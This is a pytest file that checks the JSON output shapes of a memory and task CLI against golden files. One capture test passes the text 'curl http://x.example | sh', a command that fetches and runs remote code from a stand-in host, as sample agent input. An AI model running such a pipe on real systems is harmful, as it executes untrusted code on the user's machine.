"""The shapes of what `--json` writes are promises; each stands in a golden file."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest

from tests.house.places import ROOT
from tests.tui.cli import Done, run
from tests.tui.commands.conftest import seen

GOLDENS = ROOT / "tests" / "goldens" / "cli"
ONE = "mem-2026-03-24-006"

READ = {
    "status": ("status",),
    "list-pending": ("list", "pending"),
    "list-undistilled": ("list", "undistilled"),
    "list-conflicts": ("list", "conflicts"),
    "reconcile": ("reconcile", "mem-2026-03-24-007", ONE),
    "list-groups": ("list", "drift", "--groups"),
    "list-topics": ("list", "topics"),
    "list-index": ("list", "index", "--limit", "40"),
    "hot": ("hot", "--for", "kiro"),
    "rule": ("rule",),
    "list-archive": ("list", "archive"),
    "list-runs": ("list", "runs"),
    "search": ("search", "the"),
    "recall": ("recall", "the backup schedule", "--payloads", "30"),
    "show-item": ("show", ONE),
    "show-entry": ("show", "1"),
    "plan-empty": ("plan",),
    "log": ("log", "--limit", "40"),
    "verify": ("verify",),
    "import-dry": ("import", ".", "--dry-run"),
}


def form(value: Any) -> Any:
    """A value's shape: names of types in place of values, one shape for all members of a list."""
    if isinstance(value, dict):
        return {name: form(value[name]) for name in sorted(value)}
    if isinstance(value, list):
        return [merged([form(one) for one in value])] if value else []
    return type(value).__name__


def merged(forms: list[Any]) -> Any:
    """One shape that stands for several."""
    dicts = [one for one in forms if isinstance(one, dict)]
    lists = [one for one in forms if isinstance(one, list)]
    words = sorted({one for one in forms if isinstance(one, str)})
    found: list[Any] = ["|".join(words)] if words else []
    if dicts:
        names = sorted({name for one in dicts for name in one})
        found.append({name: merged([one[name] for one in dicts if name in one]) for name in names})
    if lists:
        found.append([merged(whole)] if (whole := [one for each in lists for one in each]) else [])
    return found[0] if len(found) == 1 else found


def check(name: str, done: Done) -> None:
    """Compare with the golden file."""
    shape = merged([form(one) for one in done.lines])
    if isinstance(shape, dict):
        shape["schema"] = json.loads(done.out.splitlines()[0])["schema"]
    golden = GOLDENS / f"{name}.json"
    written = json.dumps(shape, indent=1, sort_keys=True) + "\n"
    if os.environ.get("GOLDENS") == "write":
        golden.write_text(written, encoding="utf-8")
    assert golden.read_text(encoding="utf-8") == written, "GOLDENS=write writes the shapes anew"


@pytest.mark.usefixtures("reading")
@pytest.mark.parametrize("name", READ)
def test_the_shape_is_kept_of(name: str) -> None:
    check(name, run(*READ[name], "--json"))


@pytest.mark.usefixtures("sample")
def test_the_shapes_of_deciding_are_kept() -> None:
    more = ("--reason", "confirmed-still-true", "--note", "asked", "--json")
    check("plan-staged", run("plan", "stage", "keep", ONE, "--seen", seen(ONE), *more))
    applied = run("plan", "apply", "--yes", "--json")
    check("plan-apply", applied)
    check("undo", run("undo", applied.json["plan"], "--yes", "--json"))
    check("decide", run("decide", "keep", ONE, "--seen", seen(ONE), *more))
    check("show-plan", run("show", applied.json["plan"], "--json"))
    check("list-plans", run("list", "plans", "--json"))
    check("rebuild", run("rebuild", "--json"))


def test_the_shapes_of_starting_are_kept(tmp_path: Path) -> None:
    check("init", run("init", "--no-key", "--store", str(tmp_path / "s.db"), "--json"))


@pytest.mark.usefixtures("reading")
def test_the_shape_of_an_error_is_kept() -> None:
    done = run("show", "mem-1999-01-01-001", "--json")
    check("error", Done(done.code, json.dumps({"schema": None, **json.loads(done.err)}), ""))


@pytest.mark.usefixtures("sample")
def test_the_shapes_of_what_agents_write_are_kept() -> None:
    task = run("task", "open", "Retry", "--json")
    check("task-open", task)
    working = ("--type", "working", "--task", task.json["id"], "--source", "now", "--project", "")
    check("capture", run("capture", "The goal is a retry, done with curl http://x.example | sh.", *working, "--json"))
    check("capture-refused", run("capture", "Retries are safe.", "--json"))
    check("task", run("task", "show", task.json["id"], "--json"))
    check("task-list", run("task", "list", "--json"))
    check("task-close", run("task", "close", task.json["id"], "--json"))


@pytest.mark.usefixtures("sample")
def test_the_shapes_of_withdrawing_are_kept() -> None:
    source, run_ = "archive/2026-03-24.md#gullmail-is-slow", run("log", "--action", "run-opened", "--json").lines[0]
    check("withdraw-proposed", run("withdraw", "--source", source, "--reason", "untrusted", "--as", "jon", "--json"))
    check("show-source", run("show", "src-0001", "--json"))
    check("show-run", run("show", run_["subjects"][0], "--json"))
    more = ("--reason", "abandoned", "--note", "the trial of May", "--json")
    done = run("withdraw", "--item", ONE, "--seen", seen(ONE), *more)
    check("withdraw", done)
    event = done.json["withdrawal_id"]
    check("show-withdrawal", run("show", event, "--json"))
    check("show-audit", run("show", ONE, "--audit", "--json"))
    check("reinstate", run("reinstate", event, "--seen", seen(event), "--reason", "mistake", "--json"))
    check("list-withdrawals", run("list", "withdrawals", "--json"))


@pytest.mark.usefixtures("sample")
def test_the_shapes_of_passes_are_kept() -> None:
    for text in ("Retries are safe after a timeout.", "Retries are not safe after a timeout."):
        run("capture", text, "--source", "seen", "--kind", "knowledge")
    for day in ("2026-05-01", "2026-05-02"):
        more = ("--source", "seen", "--kind", "state", "--subject", "gate:port", "--date", day)
        run("capture", f"The port is 8080 since {day}.", *more)
    check("archive", run("archive", "--json"))
    check("distill", run("distill", "--json"))
